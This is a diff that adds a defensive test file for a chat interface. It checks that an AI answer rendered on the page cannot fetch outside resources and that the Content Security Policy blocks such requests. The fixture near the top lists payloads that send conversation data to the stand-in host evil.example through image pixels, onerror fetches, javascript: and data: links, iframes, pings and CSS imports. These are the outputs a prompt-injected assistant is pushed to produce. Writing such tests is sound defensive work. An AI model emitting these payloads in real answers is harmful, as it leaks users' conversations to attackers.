@@ -1,0 +1,74 @@
+/** Abuse case 18: an answer that would carry off what was said, by a picture that is fetched or a link that looks harmless. */
+import { describe, expect, it } from 'vitest'
+import { answers, ask, eventually } from './chat.ts'
+import { setStage } from './stage.ts'
+
+const stage = setStage()
+
+const stolen = 'conversation-as-a-secret'
+const said = [
+  `![a](https://evil.example/pixel?q=${stolen})`,
+  `<img src="https://evil.example/tag?q=${stolen}" onerror="fetch('https://evil.example/js?q=${stolen}')">`,
+  `[click](javascript:fetch('https://evil.example/link?q=${stolen}'))`,
+  `[data](data:text/html,<script>location='https://evil.example/?q=${stolen}'</script>)`,
+  `![b](//evil.example/relative?q=${stolen})`,
+  `<iframe src="https://evil.example/frame?q=${stolen}"></iframe><link rel="stylesheet" href="https://evil.example/css">`,
+  `<svg><image href="https://evil.example/svg?q=${stolen}"/></svg><video poster="https://evil.example/poster"></video>`,
+  `<a href="https://evil.example/ping" ping="https://evil.example/ping?q=${stolen}">ping</a>`,
+  `<style>@import url(https://evil.example/style?q=${stolen})</style><form action="https://evil.example/form"><button>go</button></form>`,
+  '[plain link](https://example.org/page)',
+  'The end.',
+].join('\n\n')
+
+describe('An answer', () => {
+  it('18. has nothing fetched, run or sent by being read', async () => {
+    const { page } = await stage.visitor()
+    const outside: string[] = []
+    page.on('request', (request) => {
+      if (!request.url().startsWith(stage.url)) outside.push(request.url())
+    })
+    const answering = stage.model.take('show me')
+    await ask(page, 'show me')
+    const answer = await answering
+    answer.say(said)
+    answer.finish()
+    await page.getByText('The end.').waitFor()
+    await page.waitForTimeout(500)
+    expect(outside).toEqual([])
+    const text = answers(page).last()
+    expect(
+      await text.locator('img, image, iframe, script, style, link, video, audio, object, embed, form, button[type=submit]').count(),
+    ).toBe(0)
+    const links = await text.locator('a').evaluateAll((all) =>
+      all.map((link) => ({
+        href: link.getAttribute('href') ?? '',
+        rel: link.getAttribute('rel') ?? '',
+        ping: link.hasAttribute('ping'),
+      })),
+    )
+    expect(links.length).toBeGreaterThan(0)
+    for (const { href, rel, ping } of links) {
+      expect(href === '' || /^(https?:)?\/\//.test(href), href).toBe(true)
+      expect([ping, rel.includes('noreferrer') || href === '']).toEqual([false, true])
+    }
+  })
+
+  it('18. could fetch nothing even if it got past that: the page may only talk to its own server', async () => {
+    const { page } = await stage.visitor()
+    const policy = (await (await fetch(stage.url)).headers.get('content-security-policy')) ?? ''
+    expect(policy).toContain("default-src 'none'")
+    expect(policy).toMatch(/connect-src 'self'(;|$)/)
+    expect(policy).toMatch(/img-src 'self' data:(;|$)/)
+    const blocked = await page.evaluate(async () => {
+      const seen: string[] = []
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective))
+      const image = new Image()
+      image.src = 'https://evil.example/pixel'
+      document.body.append(image)
+      await fetch('https://evil.example/').catch(() => {})
+      await new Promise((resolve) => setTimeout(resolve, 300))
+      return seen
+    })
+    await eventually(() => expect(blocked.sort()).toEqual(['connect-src', 'img-src']))
+  })
+})
